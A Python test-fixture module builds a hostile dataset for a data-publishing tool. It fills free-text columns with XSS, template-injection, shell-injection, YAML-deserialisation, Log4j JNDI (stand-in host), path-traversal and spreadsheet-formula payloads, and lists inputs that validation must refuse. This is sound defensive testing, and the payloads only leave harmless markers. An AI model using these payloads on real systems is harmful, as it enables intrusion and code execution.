r"""Values that would run if data were code, and a dataset that holds them in every column of free text.

What belongs here: the payloads, the columns that they go into (read from the schema), the dataset. What does not: any
expectation of a test. A payload that is executed leaves a mark: in a browser `window.ran` or a dialog, in a build a file
in the folder that the environment's RAN names. Each value holds a number of its own (§), so that it can be found again.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import count
from pathlib import Path
from typing import Any

from tiny import Row, write_tiny_dataset

from claimbook.model.descriptor import read_schema

HOST = "elsewhere.example"
# Where a payload that ran in a build leaves a file.
RAN = "RAN"
_TOUCH = "touch $RAN/§"
_OPEN = 'open(__import__("os").environ["RAN"]+"/§","w")'

HTML = (
    "<script>window.ran=§</script>",
    "</script><script>window.ran=§</script>",
    "<img src=x onerror=window.ran=§>",
    '"><img src=x onerror="alert(§)">',
    "x' onmouseover='window.ran=§' y='",
    '" autofocus tabindex=0 onfocus="window.ran=§" x="',
    "<svg/onload=window.ran=§>",
    '<iframe srcdoc="<script>parent.ran=§</script>"></iframe>',
    '<a href="javascript:window.ran=§">go §</a>',
    f'<base href="https://{HOST}/§/">',
    f'<meta http-equiv="refresh" content="0;url=https://{HOST}/§">',
    f"<link rel=stylesheet href=https://{HOST}/§.css>",
    f'<style>@import "https://{HOST}/§";</style>',
    '<object data="data:text/html,<script>parent.ran=§</script>"></object>',
    "!--><script>alert(§)</script><!--",
    "<!--<script>window.ran=§",
    "]]><script>window.ran=§</script>",
    "</title></textarea></style></option><script>window.ran=§</script>",
    "</desc></text></svg><script>window.ran=§</script>",
    "<math><mtext></p><script>window.ran=§</script>",
    f"<form action=https://{HOST}/§><button autofocus>send</button></form>",
    "<details open ontoggle=window.ran=§>",
    "<video><source onerror=window.ran=§></video>",
    "<plaintext>§",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=§>'>",
    "&lt;script&gt;window.ran=§&lt;/script&gt;",
    "&#60;img src=x onerror=window.ran=§&#62; &amp;lt;b&amp;gt; &copy &notit;",
    "سوق <bdi>الجسر</bdi> <script>window.ran=§</script>",
    'سوق" title="الجسر" onclick="window.ran=§',
    "<b dir=rtl>سوق §</b><img dir=x src=x onerror=window.ran=§>",
    "javascript:window.ran=§",
    "JaVaScRiPt:alert(§)//",
    "data:text/html,<script>window.ran=§</script>",
    f"//{HOST}/§",
    f"https://{HOST}/§#:~:text=river,office",
    "file:///etc/passwd?§",
)
SCRIPT = (
    '"}</script><script>window.ran=§</script>',
    f'","@id":"https://{HOST}/§","x":"',
    "\\u003c/script\\u003e §",
    "ends with a backslash § \\",
    "');window.ran=§;('",
    "`${window.ran=§}`",
    "*/window.ran=§/*",
    "{{constructor.constructor('window.ran=§')()}}",
    "${jndi:ldap://elsewhere.example/§}",
    "datum.x§ || alert(§)",
    '{"signal": "alert(§)"}',
    '{"expr": "window.ran = §"}',
    "value[§].x:Q",
    "count():Q §",
    "a\\.b[§]",
    "constructor § __proto__ toString",
    "%s %n %(x)s %§d",
)
MARKUP = (
    "{{ cycler.__init__.__globals__.os.system('" + _TOUCH + "') }}",
    "{{ [].__class__.__base__.__subclasses__() }} §",
    "{% for x in [1,2] %}§{% endfor %}",
    "{{ 7*§ }}",
    "{# hidden § #} {% raw %}",
    "{eval}`" + _OPEN + "`",
    "``` {code-cell} python " + _OPEN,
    "```{code-cell} " + _OPEN,
    "~~~{raw} html <script>window.ran=§</script>",
    "{raw html}`<script>window.ran=§</script>`",
    "`<script>window.ran=§</script>`{=html}",
    ":::{include} /etc/passwd § :::",
    "{download}`/etc/passwd` §",
    "{doc}`../../x§` {ref}`x§` {claim}`no-claim-§` {cite-book}",
    "![x](javascript:window.ran=§)",
    f"![x](https://{HOST}/§.png)",
    "[x](javascript:window.ran=§)",
    f"<https://{HOST}/§>",
    f"[§]: https://{HOST}/§",
    "(label§)= % comment",
    "# heading § #",
    "> quoted §",
    "1. listed §",
    "| a | b § |",
    "$$\\href{javascript:window.ran=§}{x}$$ $x_§$",
    "*** **§** __§__ ~~§~~ `§`",
    "[^§] x[^§] § \"quoted\" -- '§' ... (c)",
    "% comment §",
    ".. include:: /etc/passwd §",
    ".. raw:: html <script>window.ran=§</script>",
    ":raw-html:`<script>window.ran=§</script>`",
    "|sub§| `x <javascript:window.ran=§>`_ x§_ :doc:`x§`",
    "%run x.py §",
    "!" + _TOUCH,
    "%%bash " + _TOUCH,
    "get_ipython().system('" + _TOUCH + "')",
    "'); " + _OPEN + "; ('",
    '"""); ' + _OPEN + '; ("""',
    "\\N{BULLET} \\x27 \\'§",
    "{0.__class__} {self.__init__.__globals__} {§!r}",
    "`" + _TOUCH + "`",
    "$(" + _TOUCH + ")",
    "; " + _TOUCH + " #",
    "| " + _TOUCH,
    "!!python/object/apply:os.system ['" + _TOUCH + "']",
    "&a [*a, *a] §",
)
PLACES = (
    "../../x§",
    "/etc/passwd§",
    "C:\\x§",
    "\\\\elsewhere.example\\x§",
    "CON §",
    "~root/§",
    "%2e%2e%2f§%00",
    "x-,y,-z§&text=other",
    '<!DOCTYPE x [<!ENTITY a "b§">]>',
    "<![CDATA[§]]>",
    '<?xml version="1.0"?>§',
    "'=1+1§",
    '"=1+1§"',
    "x=cmd|' /C calc'!A§",
    'x,"y§",z',
    "1§;2",
)
SIGNS = (
    "Rivеr Оffice §",  # Cyrillic letters
    "River\u200b Of\u2060fi\u00adce §",
    "\ufeffRiver Office §",
    "\u200fRiver Office\u200e §\u061c",
    "＜script＞window.ran=§＜/script＞",
    "Z\u0351\u036b\u0343\u036aa\u0302\u033d\u0368l\u0353\u031cg\u0319\u0350o\u0332\u0354 §",
    "👩\u200d👩\u200d👧 🌊§ \U000e0041\U000e007f",
    "İıſK ﬁ § ß",
    "\ufffd\ufffc §",
    "W" * 300 + "§",
    "<" * 90 + "§",
)
PAYLOADS = (*HTML, *SCRIPT, *MARKUP, *PLACES, *SIGNS)

# What `check` refuses in any text: how it begins, or holds what is no text.
REFUSED_TEXTS = (
    '=HYPERLINK("https://elsewhere.example/","go")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "＝1+1", "＋1",
    "－1+1", "＠x", " =1+1", "\t=1+1", "x\ty", "x\ry", "x\ny", "x\x1b[31my", "x\x07y", "x\x7fy", "x\x85y", "x\u2028y",
    "x\u2029y", "\u202ex", "x\u202dy\u202c", "x\u202ay", "x\u2066y", "x\u2067y\u2069", "x\u2068y", "x\ufffey", "x\uffff",
    "x\ufdd0", "x\U0001fffe",
)  # fmt: skip
# What is refused as an id, since ids become files, addresses and anchors.
REFUSED_IDS = (
    "../../x", "..", "/etc/x", "C:\\x", "C:x", "a/b", "a\\b", "a.b", "CON", "con", "nul", "aux", "com1", "lpt9", "Gazette",
    "gаzette", "gazette\u200b", "\u202egazette", "gazette ", "g azette", "x", "-x", "1x", "x" * 65, "x%2e", "x?y", "x#y",
    "x&y", "x'y", 'x"y', "<b>", "${x}", "{{x}}", "ｇazette", "__proto__", "javascript:x", "=x", "x;y", "x\ny",
)  # fmt: skip
# What is refused in columns that have a rule of their own, by kind.
REFUSED_KINDS = {
    "url": (
        "javascript:window.ran=1", "JAVASCRIPT:x", "data:text/html,<script>alert(1)</script>", "vbscript:x", "//x.example",
        "file:///etc/passwd", "https:x", "https://", "https://x.example/ y", 'https://x.example/"onclick="x',
        "https://x.example/<script>", "https://x.example/'x", "https://x.example/`x`", "https://x.example\\@y",
        " https://x.example/", "https://x.example/\u202ex", "ftp://x.example/", "../x", "https://x.example/\ufffe",
    ),
    "edtf": ("2031-05-07/../../x", "__import__('os')", "<b>2031</b>", "=2031", "2031-05-0７", "2031‐05‐07", "9" * 5000),
    "quantity": ("=12", "12<script>", "1e999", "__import__('os')", "１２", "NaN", "9" * 5000, "12\u202e", ">=12;x"),
    "integer": ("0x1", "1e3", "-1", "１", "9" * 400, "1;2", "=1"),
    "number": ("1e309", "NaN", "inf", "12,5", "=1", "１.5", "0x1", "9" * 400),
    "language": ('en" onclick="x', "<b>", "../en", "e", "еn", "en\u202e"),
    "country": ("USА", "<b>", "usa", "../"),
    "sha256": ("../../etc/passwd", "F" * 64, "0" * 63, "0" * 65),
    "day": ("2031-02-30", "../..", "２０31-05-08", "2031-05-08T00:00", "20310508", "2031-W01-1"),
    "duration": ("P1D<b>", "P" + "1" * 5000 + "X", "PT", "P１D"),
    "term": ("<b>", "__proto__", "constructor", "../x", "=x", "news_report\u200b"),
    "terms": ("<b>", "constructor", "=x", "interviews;=x"),
    "list": ("=1+1", "x;=1+1", "x;@y", ";"),
}  # fmt: skip


@dataclass(frozen=True)
class Placed:
    """A hostile value and the cell that holds it."""

    table: str
    column: str
    key: str
    value: str


def free_columns() -> dict[str, list[str]]:
    """Return the columns of each table that hold free text: no pattern, no vocabulary, no reference, no id."""
    return {
        name: [
            field["name"]
            for field in spec["schema"]["fields"]
            if field["claimbook"]["kind"] in ("text", "list") and "pattern" not in (field.get("constraints") or {})
        ]
        for name, spec in read_schema()["tables"].items()
    }


def columns_of_kind(kind: str) -> list[tuple[str, str]]:
    """Return the columns of a kind, each with its table."""
    tables = read_schema()["tables"].items()
    return [(n, f["name"]) for n, spec in tables for f in spec["schema"]["fields"] if f["claimbook"]["kind"] == kind]


_CLAIMS = len(PAYLOADS)
_WORDS = 12
# How many rows a table has. A source, an incident and a dispute are a page or a part of one: few rows, longer values.
_ROWS = {
    "sources": 4, "incidents": 4, "disputes": 3, "positions": 6, "places": 12, "actors": 24, "passages": _CLAIMS,
    "claims": _CLAIMS, "figures": _CLAIMS, "attributions": 24, "discrepancies": 12, "revisions": 6,
}  # fmt: skip
# Ids that are names in JavaScript, in the theme's pages or on the disk, and all the same no more than ids.
_SOURCES = ("constructor", "search-input", "index", "readme-md")
_INCIDENTS = ("main-content", "genindex", "valueof", "undefined")


def write_hostile(folder: Path) -> list[Placed]:
    """Write the dataset, on top of the tiny one, and return the hostile values in it."""
    placed: list[Placed] = []
    numbers = count(1000)
    rows = {
        table: {
            key: {**cells, **_fill(placed, numbers, table, key, row)} for row, (key, cells) in enumerate(made.items())
        }
        for table, made in _rows().items()
    }
    members = {("group", "actor-00"): {}, ("group", "actor-01"): {}}
    write_tiny_dataset(folder, descriptor=_describe(placed, numbers), actor_members=members, **rows)  # type: ignore[arg-type]
    return placed


def _fill(placed: list[Placed], numbers: Iterator[int], table: str, key: str, row: int) -> dict[str, str]:
    """Return hostile cells for the free columns of one row; over a table's rows each column has each payload."""
    if str(key).startswith("claimed") or key in ("gazette-001-f2", "group"):
        return {"name": "All of them"} if key == "group" else {}
    cells = {}
    for place, column in enumerate(free_columns()[table]):
        payloads = [PAYLOADS[(row + 7 * place) % len(PAYLOADS)]]
        if (size := _ROWS[table]) < len(PAYLOADS):
            payloads = list(PAYLOADS[row::size])
            payloads = payloads[place % len(payloads) :] + payloads[: place % len(payloads)]
        value = " ".join(payload.replace("§", str(next(numbers))) for payload in payloads)
        if column in ("words", "summary"):
            value = " ".join(value.split(" ")[:_WORDS])
        cells[column] = value.replace(";", ",") if column == "also_written" else value
        placed.append(Placed(table, column, str(key), cells[column]))
    return cells


def _rows() -> dict[str, dict[str, Row]]:
    """Return the rows of each table by key, without their free columns."""
    sources = {
        key: {
            "publisher": "", "kind": "news_report", "published": "2031-05-07", "language": "en", "custody": "issuer",
            "issued_by": f"actor-{number:02}", "accessed": "2031-05-08", "seen_as": "excerpt", "coding_scope": "passage",
            "url": f"https://{HOST}/flood?a=%3Cscript%3E&b={{{{7*7}}}}${{x}}|%0d#:~:text=a",
        }
        for number, key in enumerate(_SOURCES)
    }  # fmt: skip
    claims, figures, statements, takes = {}, {}, {}, {}
    silent: dict[str, Row] = {}
    claimed: dict[str, Row] = {}
    for number in range(_ROWS["claims"]):
        source, key = _SOURCES[number % len(_SOURCES)], f"c-{number:03}"
        claimed[f"claimed-{key}"] = {"source_id": source, "text_part": "body"}
        silent[f"silent-{key}"] = {"source_id": source, "text_part": "body"}
        speaker = f"actor-{number % _ROWS['actors']:02}"
        claims[key] = _claim(number, source, speaker)
        figures[f"{key}-f1"] = _figure(number, key)
        if number % 3:
            target = f"actor-{(number + 5) % _ROWS['actors']:02}"
            statements[f"{key}-s1"] = {"claim_id": key, "act": "other", "target_id": target}
            takes[key, f"p-{number % _ROWS['positions']}"] = {"stance": "asserts"}
    kinds = ("media", "authority", "monitor", "official", "community", "advocacy")
    return {
        "sources": sources,
        "passages": {**silent, **claimed},
        "actors": {
            **{f"actor-{n:02}": {"kind": kinds[n % len(kinds)]} for n in range(_ROWS["actors"])},
            "group": {"kind": "joint"},
        },
        "places": {
            f"place-{n:02}": {"precision": "exact", "latitude": f"{12 + n / 10}", "longitude": f"{-3 + n / 10}"}
            for n in range(_ROWS["places"])
        },
        "incidents": {key: {"place_id": f"place-{n:02}"} for n, key in enumerate(_INCIDENTS)},
        "claims": claims,
        "figures": {**figures, "gazette-001-f2": {"group": "hostile"}},
        "statements": statements,
        "attributions": {
            f"a-{n}": {"claim_id": f"c-{n:03}", "object": "responsibility", "role": "failed_to_prevent",
                       "accused_id": f"actor-{(n + 3) % 24:02}", "stance": "asserts"}
            for n in range(_ROWS["attributions"])
        },
        "disputes": {f"d-{n}": {"kind": "fact"} for n in range(_ROWS["disputes"])},
        "positions": {f"p-{n}": {"dispute_id": f"d-{n % _ROWS['disputes']}"} for n in range(_ROWS["positions"])},
        "takes": takes,
        "discrepancies": {
            f"x-{n}": {"kind": "scope", "claim_ids": f"c-{n:03};c-{n + 20:03}"} for n in range(_ROWS["discrepancies"])
        },
        "revisions": {
            f"r-{n}": {"release": "0.1.0", "claim_id": f"c-{n + 40:03}", "action": "retract"}
            for n in range(_ROWS["revisions"])
        },
    }  # fmt: skip


def _claim(number: int, source: str, speaker: str) -> Row:
    return {
        "source_id": source, "passage_id": f"claimed-c-{number:03}", "claimant_id": speaker,
        "via": f"actor-{(number + 1) % _ROWS['actors']:02}", "remove": "agency_relay", "voice": "partial_quote",
        "words_by": speaker, "words_language": "en", "asserted": f"2031-05-{5 + number % 3:02}",
        "asserted_basis": "stated", "incident_id": _INCIDENTS[number % len(_INCIDENTS)],
        "place_id": f"place-{number % _ROWS['places']:02}", "evidence": "not_stated",
    }  # fmt: skip


def _figure(number: int, claim: str) -> Row:
    return {
        "claim_id": claim, "measure": ("killed", "missing")[number % 2], "unit": "persons", "status": "unspecified",
        "status_basis": "not_stated", "quantity": f"{13 + number % 7}", "quantity_basis": "words", "modality": "count",
        "counting": "cumulative", "period": "2031-05-04", "place_id": f"place-{number // 20:02}", "group": "hostile",
    }  # fmt: skip


def _describe(placed: list[Placed], numbers: Iterator[int]) -> dict[str, Any]:
    """Return hostile members of the descriptor: what a dataset says of itself, and a term and labels of its own."""

    def say(place: int) -> str:
        value = " ".join(PAYLOADS[place::29]).replace("§", str(next(numbers)))
        placed.append(Placed("datapackage.json", "", str(place), value))
        return value

    return {
        "title": say(0),
        "description": say(1),
        "version": say(2),
        "keywords": [say(3), say(4)],
        "contributors": [{"title": say(5), "role": "author", "path": "javascript:window.ran=1", "email": say(6)}],
        "licenses": [{"name": say(7), "title": say(8), "path": "javascript:window.ran=2"}],
        "homepage": "javascript:window.ran=3",
        "vocabularies": {"group": {"terms": [{"name": "hostile", "label": say(10), "definition": say(11)}]}},
        "sources": [{"title": say(9), "path": "data:text/html,<script>window.ran=4</script>"}],
    }
